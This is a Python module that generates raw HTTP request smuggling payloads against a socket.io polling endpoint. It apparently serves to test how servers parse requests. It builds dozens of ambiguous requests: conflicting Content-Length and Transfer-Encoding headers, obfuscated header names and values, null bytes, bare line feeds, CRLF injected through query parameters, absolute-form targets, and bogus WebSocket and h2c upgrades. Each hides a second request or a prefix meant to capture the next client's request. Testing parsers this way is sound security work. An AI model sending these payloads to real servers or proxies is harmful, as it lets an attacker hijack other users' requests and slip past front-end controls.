"""Requests that two readers could understand in two ways, so that one of them sees a request in the
other's body (HTTP request smuggling)."""
from rawlib.wire import POLLING, WEBSOCKET, as_bytes, handshake, request

# What is hidden. Whole, it has an answer of its own, which the next client would get; a beginning
# would swallow the next client's request.
HIDDEN = {"whole": request("GET", POLLING.replace("EIO=4", "EIO=3")),
          "beginning": b"GET /socket.io/hidden HTTP/1.1\r\nHost: x\r\nX-Rest: "}
END = b"0\r\n\r\n"
CHUNKED = "Transfer-Encoding: chunked"
# Beside a good Content-Length. SHORT is another.
LINES = ["X-A: b\r\n Content-Length: SHORT", "X-A: b\r\n\tContent-Length: SHORT", "X-A: b\r\n ",
         " Content-Length: SHORT", "Transfer-Encoding:\r\n chunked",
         "X-A: b\nContent-Length: SHORT", "X-A: b\rContent-Length: SHORT", "X-A: b\n\r",
         "X-A: b\n\nGET /", "X-A: b\0Content-Length: SHORT", "X-A\0: b", "X-A: \0", "\0: b",
         "X-A : b", "X-A\t: b", ": b", "X-A", "X A: b", "Transfer-Encoding : chunked",
         "Transfer-Encoding\t: chunked", "Transfer-Encoding:\x0bchunked",
         "Transfer-Encoding: xchunked", "Transfer-Encoding: chunked, identity",
         "Transfer-Encoding: identity", "Transfer-Encoding: gzip, chunked", "Transfer-Encoding:",
         'Transfer-Encoding: "chunked"', "transfer_encoding: chunked", "Content_Length: SHORT",
         "Content-Length : SHORT", "Connection: Content-Length",
         "Connection: close, Content-Length", "X-A: 1", "x-f: 1", "C: 1", "Content: 1",
         "Content-Lengt: SHORT", "Transfer-Encodin: chunked", "Expect: x"]
LENGTHS = ["{} ", "\t{}", "+{}", "-0", "0{}", "{:#x}", "{}a", "{}.0", "", '"{}"', "{}\0", "{},",
           "18446744073709551616"]


def raw(method, target, *lines, body=b"", version="HTTP/1.1", end="\r\n"):
    """A request of exactly these lines."""
    return as_bytes(end.join([f"{method} {target} {version}", *lines, "", ""])) + body


class Attacks:
    """What a client sends in the session SID.

    packet: what comes in the body before what is hidden, so that the request is good in both
    readings.
    """

    def __init__(self, hidden, packet=b""):
        self.hidden, self.path, self.body = hidden, f"{POLLING}&sid=SID", packet + hidden
        self.short, self.size = len(packet), len(self.body)
        self.less, self.whole = (f"Content-Length: {size}" for size in (self.short, self.size))
        self.chunk = b"%x\r\n%s\r\n" % (self.size, self.body) + END
        self.chunks = (b"1\r\n%s\r\n" % packet if packet else b"") + END + hidden

    def all(self):
        """{name: bytes}"""
        made = {**self.lengths(), **self.requests(), **self.upgrades()}
        for line in LINES:
            text = line.replace("SHORT", str(self.short))
            made[f"before: {line!r}"] = self.post(text, self.whole)
            made[f"behind: {line!r}"] = self.post(self.whole, text)
            # Without its length, the body of a GET is the next request.
            made[f"GET, before: {line!r}"] = raw(
                "GET", POLLING, "Host: x", text, f"Content-Length: {len(self.hidden)}",
                body=self.hidden)
        for value in LENGTHS:
            made[f"a length: {value!r}"] = self.post("Content-Length: " + value.format(self.size))
        return made

    def post(self, *lines, body=None, target=None, **how):
        """A POST with these lines."""
        return raw("POST", target or self.path, "Host: x", *lines,
                   body=self.body if body is None else body, **how)

    def other(self, method, *lines, target=POLLING):
        """Another request with these lines."""
        return raw(method, target, "Host: x", *lines, body=self.body)

    def lengths(self):
        """Of which it is not clear where they end."""
        post, less, whole, chunks = self.post, self.less, self.whole, self.chunks
        return {
            "CL.CL, the first": post(less, whole), "CL.CL, the second": post(whole, less),
            "CL.CL, a list": post(f"{less}, {self.size}"), "CL.CL, the same": post(whole, whole),
            "CL.TE": post(f"Content-Length: {len(chunks)}", CHUNKED, body=chunks),
            "TE.CL": post(CHUNKED, "Content-Length: 4", body=self.chunk),
            "TE and more": post(CHUNKED, body=chunks),
            "a trailer": post(CHUNKED, body=chunks.replace(
                END, b"0\r\nContent-Length: %d\r\n\r\n" % self.size)),
            "TE in HTTP/1.0": post(CHUNKED, "Connection: keep-alive", body=chunks,
                                   version="HTTP/1.0"),
            "a chunk's extension": post(CHUNKED, body=b"1;a\n6\r\n6\r\n" + END + self.hidden),
            "a lone body": post(), "Expect": post("Expect: 100-continue", whole),
            "over max_payload": post(f"Content-Length: {400 * self.size}", body=self.body * 400),
        }

    def requests(self):
        """Of unusual forms."""
        post, other, path, less, whole = self.post, self.other, self.path, self.less, self.whole
        return {
            "absolute-form": post(less, target=f"http://other{path}"),
            "absolute-form with a body": post(whole, target=f"http://127.0.0.1:1{path}"),
            "absolute-form and TE": post(CHUNKED, whole, target=f"HTTP://x{path}", body=self.chunk),
            "a line end in a parameter": post(
                less, target=f"{path}&a=%0d%0aContent-Length:%20{self.size}"),
            "a line feed in a parameter": post(whole, target=f"{path}&a=%0aContent-Length:0"),
            "a body elsewhere": post(whole, target="/socket.io"),
            "empty lines before": b"\r\n\r\n" + post(less),
            "line feeds before": b"\n\n" + post(less), "all by line feeds": post(whole, end="\n"),
            "two hosts": post("Host: y", less),
            "no host": raw("POST", path, less, body=self.body),
            "GET with a body": other("GET", whole), "OPTIONS with a body": other("OPTIONS", whole),
            "GET with chunks": raw("GET", POLLING, "Host: x", CHUNKED, body=self.chunk),
            "HEAD with a body": other("HEAD", whole), "HEAD": other("HEAD"),
            "PUT": other("PUT", whole, target=path), "no method": other("GET\t", target=path),
            "HTTP/0.9": as_bytes(f"GET {POLLING}\r\n") + self.hidden,
        }

    def upgrades(self):
        """That are none, or are followed by more."""
        asked, whole = ("Connection: Upgrade", "Upgrade: websocket"), self.whole
        good = "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="
        return {
            "refused": self.other("GET", *asked, "Sec-WebSocket-Version: 12", target=WEBSOCKET),
            "with a body": self.other("GET", *asked, *good, whole, target=WEBSOCKET),
            "by POST": self.post(*asked, *good, whole),
            "h2c": self.post("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c",
                             "HTTP2-Settings: AAMAAABkAAQAAP__", whole),
            "behind a WebSocket": handshake(WEBSOCKET) + self.hidden,
        }
